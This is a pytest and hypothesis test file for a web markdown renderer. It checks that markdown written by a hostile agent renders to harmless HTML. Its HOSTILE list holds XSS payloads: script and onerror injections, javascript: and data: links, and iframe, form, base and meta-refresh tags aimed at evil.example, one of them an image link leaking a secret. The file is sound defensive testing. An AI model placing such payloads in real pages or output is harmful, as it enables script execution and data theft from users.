"""Markdown of a hostile agent: it becomes nothing that a browser runs, fetches, sends or mistakes for the page."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nanoclaw.channels.web.markdown import MOST_MARKDOWN, SCHEMES, TAGS, render

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/?q=secret)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](http://ok \"' onmouseover=alert(1) x='\")",
    "```<script>\nalert(1)\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "<iframe src=//evil.example>",
    "<form action=//evil.example><input name=password>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<svg/onload=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "| <script> | x |\n|---|---|\n| <img src=x onerror=alert(1)> | y |",
    "<div id=compose class=host>Approve?</div>",
    "[x](/logout)",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
ATTRIBUTES = {"a": {"href", "rel", "target", "title"}, "ol": {"start", "title"}}


class Seen(HTMLParser):
    """Every element, with its attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)


def assert_harmless(html: str) -> None:
    seen = Seen()
    seen.feed(html)
    seen.close()
    for tag, attributes in seen.found:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, {"title"})
        if tag == "a" and (href := attributes.get("href")) is not None:
            scheme, colon, _ = href.partition(":")
            assert not colon or scheme in SCHEMES or "/" in scheme
            assert attributes["rel"] == "noopener noreferrer nofollow"


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_gets_through(text: str) -> None:
    assert_harmless(render(text))


@given(
    st.lists(
        st.sampled_from([*HOSTILE, "a", " ", "\n", "\n\n", "> ", "- ", "`", "*", "[", "](", ")", "<", "&#x", ";"])
    ).map("".join)
)
def test_no_mixture_of_it_does_either(text: str) -> None:
    assert_harmless(render(text))


def test_what_people_write_looks_as_they_mean_it() -> None:
    html = render("# Plan\n\n- *one*\n- **two**\n\n[there](https://example.org)\n\n```py\nx < 1\n```\n~~no~~")
    for piece in ("<h1>Plan</h1>", "<em>one</em>", "<strong>two</strong>", "<code>x &lt; 1\n</code>", "<s>no</s>"):
        assert piece in html
    assert 'href="https://example.org"' in html


def test_what_is_long_is_not_parsed() -> None:
    text = "*" * (MOST_MARKDOWN + 1)
    assert render(text) == f"<pre>{text}</pre>"
